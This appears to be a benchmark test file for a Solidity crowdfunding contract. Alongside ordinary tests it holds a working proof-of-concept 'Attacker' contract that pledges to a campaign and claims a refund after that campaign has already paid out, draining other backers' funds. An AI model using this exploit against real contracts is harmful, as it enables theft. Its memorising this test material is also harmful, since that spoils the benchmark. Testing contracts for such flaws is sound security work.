pragma solidity 0.5.17;

import "./VillageCrowdfund.sol";

// assay-canary-40a5dc85-554f-4019-ba3e-9d50bf02242d

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address payable private constant HALL = address(0x4A1);
    address payable private constant POOL = address(0x900);
    address payable private constant ANA = address(0xA9A);
    address payable private constant BEN = address(0xBE9);
    uint256 private constant START = 1600000000;

    VillageCrowdfund private fund;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        fund = new VillageCrowdfund();
        vm.prank(HALL);
        fund.start(5 ether, START + 10 days);
        vm.prank(POOL);
        fund.start(20 ether, START + 30 days);
        vm.deal(ANA, 20 ether);
        vm.deal(BEN, 20 ether);
        vm.prank(ANA);
        fund.pledge.value(2 ether)(0);
        vm.prank(BEN);
        fund.pledge.value(8 ether)(1);
        mallory = new Attacker(fund);
        vm.deal(address(mallory), 4 ether);
        mallory.join();
        vm.warp(START + 10 days);
        fund.payOut(0);
    }

    function test_Regular() public {
        require(HALL.balance == 6 ether && !fund.failed(1), "paid out");
        vm.prank(HALL);
        uint256 id = fund.start(1 ether, START + 20 days);
        vm.prank(ANA);
        fund.pledge.value(3 ether)(id);
        vm.warp(START + 30 days);
        fund.payOut(id);
        require(HALL.balance == 9 ether, "more than the goal");
        vm.prank(BEN);
        fund.refund(1);
        require(BEN.balance == 20 ether && address(fund).balance == 0, "refunded");
        id = fund.start(1 ether, START + 40 days);
        vm.prank(ANA);
        fund.pledge.value(2 ether)(id);
        vm.warp(START + 40 days);
        require(!fund.failed(id), "reached");
        fund.payOut(id);
        require(fund.failed(id) && address(fund).balance == 2 ether, "not taken");
        vm.prank(ANA);
        fund.refund(id);
        require(ANA.balance == 15 ether && address(fund).balance == 0, "refunded, too");
    }

    function test_RefusesStarts() public {
        vm.expectRevert("no goal");
        fund.start(0, START + 20 days);
        vm.expectRevert("bad end");
        fund.start(1, START + 10 days);
        vm.expectRevert("bad end");
        fund.start(1, START + 101 days);
    }

    function test_RefusesPledges() public {
        vm.startPrank(ANA);
        vm.expectRevert("ended");
        fund.pledge.value(1)(0);
        vm.expectRevert("no amount");
        fund.pledge(1);
        vm.stopPrank();
    }

    function test_RefusesPayments() public {
        vm.expectRevert("not ended");
        fund.payOut(1);
        vm.expectRevert("paid out");
        fund.payOut(0);
        vm.prank(BEN);
        vm.expectRevert("not failed");
        fund.refund(1);
        vm.deal(HALL, 20 ether);
        vm.warp(START + 30 days);
        vm.expectRevert("failed");
        fund.payOut(1);
        vm.expectRevert("no pledge");
        fund.refund(1);
    }

    function test_RefusesToPayReachedGoalsEarly() public {
        vm.deal(HALL, 20 ether);
        vm.prank(HALL);
        fund.pledge.value(12 ether)(1);
        vm.expectRevert("not ended");
        fund.payOut(1);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 3.9 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    VillageCrowdfund private fund;

    constructor(VillageCrowdfund f) public {
        fund = f;
    }

    function() external payable {}

    function join() external {
        fund.pledge.value(4 ether)(0);
    }

    function run() external {
        fund.refund(0);
    }
}
